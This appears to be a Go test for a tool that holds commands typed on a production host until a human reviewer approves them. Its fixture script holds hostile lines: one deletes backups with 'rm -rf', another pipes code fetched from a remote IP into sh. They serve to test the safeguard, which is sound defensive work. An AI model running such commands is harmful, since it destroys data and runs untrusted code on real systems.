package shot

import (
	"context"
	"io/fs"
	"testing"
	"time"

	"escort/explain"
	"escort/explain/effect"
	"escort/session/event"
	"escort/tui"
)

var noon = time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)

const (
	ps1     = "\x1b[32mravi@prod-db-2\x1b[m:~$ "
	command = "sh fix_servers.sh"
	ticket  = `INC-4211 "restart the billing API"`
)

// disk is a machine on which there is one script of the engineer's.
type disk map[string]string

func (disk) Facts() (cwd, user string, now time.Time) { return "/home/ravi", "ravi", noon }

func (disk) Lookup(_ context.Context, kind, name string) (string, error) {
	if kind == effect.LookupProgram {
		return "/usr/bin/" + name, nil
	}
	return "", effect.ErrUnknown
}

func (d disk) Stat(_ context.Context, path string) (effect.Info, error) {
	text, ok := d[path]
	if !ok {
		return effect.Info{}, effect.ErrUnknown
	}
	return effect.Info{Mode: fs.FileMode(0o644), Size: int64(len(text)), ModTime: noon.Add(-time.Hour), Owner: "ravi"}, nil
}

func (d disk) Read(_ context.Context, path string, limit int) ([]byte, error) {
	text, ok := d[path]
	if !ok {
		return nil, effect.ErrUnknown
	}
	return []byte(text[:min(len(text), limit)]), nil
}

func (disk) Glob(context.Context, string, int) ([]string, bool, error) {
	return nil, false, effect.ErrUnknown
}

// console is the console while it holds the script.
func console(t *testing.T) []string {
	script := "#!/bin/sh\nls /srv/backup\nrm -rf /srv/backup/*\ncurl -s http://198.51.100.7/x | sh\n"
	world := disk{"fix_servers.sh": script, "/home/ravi/fix_servers.sh": script}
	x := explain.Explain(t.Context(), explain.Request{Text: command, World: world, Ticket: ticket})
	shown := "ls\r\napp.log  fix_servers.sh\r\n" + ps1 + command + "\r\nheld: waiting for the escort"
	return tui.Still(
		tui.Options{Host: "prod-db-2", User: "ravi", Ticket: ticket, Who: "eva"}, 120, 36, noon.Add(12*time.Minute+8*time.Second),
		event.Event{Kind: event.Opened, Time: noon},
		held("1", "ls", noon.Add(11*time.Minute), explain.Explain(t.Context(), explain.Request{Text: "ls", World: world, Ticket: ticket})),
		event.Event{Kind: event.Decided, Time: noon.Add(11 * time.Minute), Hold: "1", Verdict: event.Allow, Who: "eva"},
		event.Event{Kind: event.Output, Time: noon, Data: []byte(ps1 + shown)},
		held("2", command, noon.Add(12*time.Minute), x),
	)
}

func held(id, line string, at time.Time, x effect.Explanation) event.Event {
	return event.Event{
		Kind: event.Held, Time: at, Hold: id, Layer: event.LayerLine, Cause: event.CauseTyped, Typed: line, Explanation: &x,
	}
}
